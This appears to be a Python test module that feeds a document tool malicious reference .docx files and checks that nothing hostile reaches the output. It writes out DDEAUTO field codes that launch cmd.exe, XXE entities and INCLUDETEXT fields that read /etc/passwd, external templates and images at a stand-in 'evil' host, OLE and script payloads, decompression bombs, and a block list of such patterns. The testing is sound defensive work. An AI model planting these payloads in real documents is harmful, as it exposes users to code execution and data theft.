"""Reference documents that would run, load, ask or hide something: nothing of it may be in what is written."""

from __future__ import annotations

import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from pathlib import Path
from types import MappingProxyType

from . import office
from .case import EITHER, FIXTURE, PASSES, REFUSED, Case, Done, Run
from .office import Parts

GROUP = "reference"
_FORBIDDEN = {
    "VML": rb"<v:|<o:OLEObject|<w:pict|<w:object|<v\d?:",
    "an external relationship": rb'TargetMode="External"',
    "a document type": rb"<!DOCTYPE|<!ENTITY",
    "an imported part": rb"<w:altChunk|aFChunk|attachedTemplate|<w:subDoc|frameset|<w:control|mailMerge",
    "a script": rb"javascript:|onload=|<script|file://|http://evil|\\\\\\\\evil",
    "a smart tag or a custom XML": rb"<w:customXml|<w:sdt\b.*?<w:dataBinding",
}
_INSTRUCTIONS = re.compile(rb'<w:instrText[^>]*>([^<]*)|w:instr="([^"]*)"')
_PLAIN = re.compile(rb"(PAGE|NUMPAGES|SECTIONPAGES|MERGEFORMAT|Arabic|\\.*)", re.I)
_EXTENSIONS = re.compile(r"\.(bin|svg|emf|wmf|exe|vbs|js|html?|rtf|ttf|odttf|docm?|docx)$", re.I)
_FIELD = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">{}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
_SIMPLE = '<w:fldSimple w:instr="{}"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_FIELDS = [
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', "DDE Excel a b", 'INCLUDETEXT "file:///etc/passwd"',
    'INCLUDEPICTURE "http://evil/x.png" \\d', 'LINK Excel.Sheet.8 "x" "y"', "MACROBUTTON x y", 'HYPERLINK "http://evil"',
    'IMPORT "http://evil/x"', 'RD "x.docx"', "DATABASE \\d x", 'ASK x "y"', "ddeauto x y",
]  # fmt: skip
_FOOT, _RELS, _DOC = "word/footer1.xml", "word/_rels/footer1.xml.rels", "word/document.xml"
_END = "</w:p></w:ftr>"


def _clean(folder: Path, done: list[Done]) -> str:
    """Nothing of what is forbidden stands in any part of the document that was written."""
    if done[-1].code != 0:
        return ""
    for name, part in office.parts(folder / "out.docx").items():
        if _EXTENSIONS.search(name):
            return f"{name} is in the document"
        asked = b" ".join(one or two for one, two in _INSTRUCTIONS.findall(part)).split()
        loads = next((word for word in asked if not _PLAIN.fullmatch(word)), None)
        if loads:
            return f"a field with {loads.decode(errors='replace')} is in {name}"
        for what, pattern in _FORBIDDEN.items():
            if re.search(pattern, part, re.DOTALL):
                return f"{what} is in {name}"
    return ""


def _foot(inside: str, relations: str = "", others: Mapping[str, bytes] = MappingProxyType({})) -> Parts:
    """The document with something at the end of its footer, its relations, and parts more."""
    base = dict(office.document())
    text = base[_FOOT].decode()
    at = text.rindex("</w:p>")
    base[_FOOT] = (text[:at] + inside + text[at:]).encode()
    if relations:
        base[_RELS] = _relations(relations)
    return {**base, **others}


def _relations(inside: str) -> bytes:
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inside}</Relationships>'.encode()


def _relation(kind: str, target: str, external: bool = True, name: str = "rId77") -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{name}" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'


def _picture(relation: str) -> str:
    drawing = (
        '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="1" cy="1"/><wp:docPr id="1" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {}="rId77"/></pic:blipFill>'
        "<pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )
    return drawing.format(relation)


def png(width: int, height: int, filler: bytes = b"") -> bytes:
    """A PNG that says it is so large; its content is ``filler``."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(filler)) + chunk(b"IEND", b"")


def _pictured(target: str, content: bytes) -> Parts:
    """A picture in the footer: what stands at its target."""
    return _foot(_picture("r:embed"), _relation("image", target, external=False), {f"word/{target}": content})


def _related(part: str, relation: str) -> Parts:
    """An external relationship in any part."""
    base = dict(office.document())
    if part in base:
        return office.changed(base, part, "</Relationships>", relation + "</Relationships>")
    base[part] = _relations(relation)
    return base


def _doctype(part: str, encoding: str = "utf-8") -> Parts:
    base = dict(office.document())
    text = base[part].decode()
    text = re.sub(
        r"(<\?xml[^>]*\?>\s*)?",
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        text,
        count=1,
    )
    return {**base, part: text.encode(encoding)}


def _section(inside: str) -> Parts:
    return office.searched(office.document(), _DOC, r"<w:sectPr>(?:(?!<w:sectPr>).)*</w:sectPr>(?=</w:body>)", inside)


def _makers() -> Iterator[tuple[str, Callable[[], Parts], str]]:
    for field in _FIELDS:
        said = field.replace('"', "&quot;")
        yield f"field {field[:24]}", partial(_foot, _FIELD.format(said)), EITHER
    for field in _FIELDS[:4]:
        said = field.replace('"', "&quot;")
        yield f"simple field {field[:24]}", partial(_foot, _SIMPLE.format(said)), EITHER
    split = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO x y</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    yield "a field in two runs", lambda: _foot(split), EITHER
    nested = _FIELD.format("PAGE").replace(
        "PAGE", "</w:instrText></w:r>" + _FIELD.format("DDEAUTO a b") + "<w:r><w:instrText>"
    )
    yield "a field inside PAGE", lambda: _foot(nested), EITHER
    yield (
        "VML picture",
        lambda: _foot(
            '<w:r><w:pict><v:shape><v:imagedata r:id="rId77"/></v:shape></w:pict></w:r>',
            _relation("image", "http://evil/x.png"),
        ),
        EITHER,
    )
    yield (
        "VML with src",
        lambda: _foot('<w:r><w:pict><v:shape><v:imagedata src="http://evil/x.png"/></v:shape></w:pict></w:r>'),
        EITHER,
    )
    yield (
        "VML under another prefix",
        lambda: _foot(
            '<w:r><w:pict><q:shape xmlns:q="urn:schemas-microsoft-com:vml"><q:imagedata src="http://evil/x"/></q:shape></w:pict></w:r>'
        ),
        EITHER,
    )
    yield (
        "OLE object",
        lambda: _foot(
            '<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId77"/></w:object></w:r>',
            _relation("oleObject", "embeddings/x.bin", external=False),
            {"word/embeddings/x.bin": b"MZ"},
        ),
        EITHER,
    )
    yield (
        "altChunk",
        lambda: office.changed(
            {**office.document(), "word/x.html": b"<script>1</script>"},
            _DOC,
            "<w:sectPr>",
            '<w:altChunk r:id="rId77"/><w:sectPr>',
        ),
        EITHER,
    )
    yield "a linked picture", lambda: _foot(_picture("r:link"), _relation("image", "http://evil/x.png")), EITHER
    yield "a picture outside", lambda: _foot(_picture("r:embed"), _relation("image", "file:///etc/passwd")), EITHER
    for name, data in {
        "svg": b"<svg onload='x'/>",
        "emf": b"\x01\0\0\0",
        "png": b"<script>",
        "jpeg": b"MZ",
        "html": b"<script>1</script>",
    }.items():
        yield (
            f"a picture that is {name}, not what it says",
            partial(_pictured, f"media/x.{name}", data),
            EITHER,
        )
    for size in ((1, 1), (60000, 60000), (2**31 - 1, 2**31 - 1), (0, 0)):
        yield (
            f"a PNG of {size[0]} × {size[1]}",
            partial(_pictured, "media/x.png", png(*size, b"\0" * 10**5)),
            EITHER,
        )
    for part in (
        "word/_rels/document.xml.rels",
        "word/_rels/footer1.xml.rels",
        "word/_rels/styles.xml.rels",
        "word/_rels/settings.xml.rels",
        "word/theme/_rels/theme1.xml.rels",
        "word/_rels/fontTable.xml.rels",
        "word/_rels/numbering.xml.rels",
        "_rels/.rels",
    ):
        for kind in ("image", "attachedTemplate", "hyperlink"):
            yield (
                f"external {kind} in {part}",
                partial(_related, part, _relation(kind, "http://evil/x")),
                EITHER,
            )
    yield (
        "theme with a linked picture",
        lambda: _related("word/theme/_rels/theme1.xml.rels", _relation("image", "\\\\\\\\evil\\x.png")),
        EITHER,
    )
    for part in (
        _DOC,
        "word/styles.xml",
        _FOOT,
        "word/theme/theme1.xml",
        "word/settings.xml",
        "[Content_Types].xml",
        "_rels/.rels",
        "docProps/core.xml",
    ):
        for encoding in ("utf-8", "utf-16"):
            yield (
                f"DOCTYPE in {part}, {encoding}",
                partial(_doctype, part, encoding),
                EITHER,
            )
    yield "no section", lambda: _section(""), PASSES
    for width, height in ((100, 100), (0, 0), (-5, -5), (31680, 31680), (10**9, 10**9), (11906, 567)):
        yield (
            f"a page of {width} × {height}",
            partial(_section, f'<w:sectPr><w:pgSz w:w="{width}" w:h="{height}"/></w:sectPr>'),
            EITHER,
        )
    for margin in ("-99999", "99999", "x", "1.5"):
        yield (
            f"a margin of {margin}",
            partial(
                _section,
                f'<w:sectPr><w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="{margin}" w:right="{margin}" w:bottom="{margin}" w:left="{margin}" w:header="1" w:footer="1" w:gutter="0"/></w:sectPr>',
            ),
            EITHER,
        )
    yield (
        "styles in a circle",
        lambda: office.changed(
            office.document(),
            "word/styles.xml",
            "</w:styles>",
            "".join(
                f'<w:style w:type="paragraph" w:styleId="{a}"><w:name w:val="{a}"/><w:basedOn w:val="{b}"/></w:style>'
                for a, b in ("XY", "YX")
            )
            + "</w:styles>",
        ),
        EITHER,
    )
    yield (
        "50,000 styles",
        lambda: office.changed(
            office.document(),
            "word/styles.xml",
            "</w:styles>",
            "".join(
                f'<w:style w:type="paragraph" w:styleId="S{n}"><w:name w:val="S{n}"/></w:style>' for n in range(50_000)
            )
            + "</w:styles>",
        ),
        EITHER,
    )
    yield "a footer 100,000 deep", lambda: _foot("<w:r>" * 10**5 + "</w:r>" * 10**5), EITHER
    yield "a footer of 1,000,000 runs", lambda: _foot("<w:r><w:t>x</w:t></w:r>" * 10**6), EITHER
    yield "a macro", lambda: {**office.document(), "word/vbaProject.bin": b"x"}, EITHER
    yield (
        "an attached template",
        lambda: office.changed(
            {
                **office.document(),
                "word/_rels/settings.xml.rels": _relations(_relation("attachedTemplate", "http://evil/x.dotm")),
            },
            "word/settings.xml",
            "</w:settings>",
            f'<w:attachedTemplate xmlns:r="{_OFFICE}" r:id="rId77"/></w:settings>',
        ),
        EITHER,
    )
    yield (
        "settings that ask for a field update and mail merge",
        lambda: office.changed(
            office.document(),
            "word/settings.xml",
            "</w:settings>",
            '<w:mailMerge><w:connectString w:val="x"/></w:mailMerge></w:settings>',
        ),
        EITHER,
    )
    yield (
        "a script in the footer's text",
        lambda: _foot('<w:sdt><w:sdtPr><w:dataBinding w:xpath="/"/></w:sdtPr><w:sdtContent/></w:sdt>'),
        EITHER,
    )
    yield (
        "an event handler",
        lambda: _foot('<w:r><w:control r:id="rId77" w:name="x"/></w:r>', _relation("control", "x.bin", external=False)),
        EITHER,
    )


_RUN = Run(
    ("draft", str(FIXTURE), "--reference-doc", "ref.docx", "-o", "out.docx"),
    ("out.docx",),
    truth="unit docx",
    printed="out.docx",
)


def _put(parts: Callable[[], Parts], method: int = zipfile.ZIP_DEFLATED) -> Callable[[Path], None]:
    return lambda folder: office.zipped(folder / "ref.docx", parts(), method)


def _cut(share: float) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        office.zipped(folder / "ref.docx", office.document())
        raw = (folder / "ref.docx").read_bytes()
        (folder / "ref.docx").write_bytes(raw[: int(len(raw) * share)])

    return make


def cases() -> Iterator[Case]:
    """All of them; first the control."""
    yield Case(GROUP, "control: the program's own document", _put(office.document), (_RUN,), PASSES, _clean)
    for name, parts, wants in _makers():
        yield Case(GROUP, name, _put(parts), (_RUN,), wants, _clean)
    for method, name in ((zipfile.ZIP_LZMA, "lzma"), (zipfile.ZIP_BZIP2, "bzip2")):
        yield Case(GROUP, f"packed with {name}", _put(office.document, method), (_RUN,), REFUSED)
    bomb = _put(lambda: {**office.document(), "word/x.xml": b" " * 300 * 2**20})
    yield Case(GROUP, "300 MB of blanks in a part", bomb, (_RUN,), EITHER, _clean)
    for share in (0.0, 0.1, 0.5, 0.9, 0.999):
        yield Case(GROUP, f"cut off at {share:.1%}", _cut(share), (_RUN,), REFUSED)
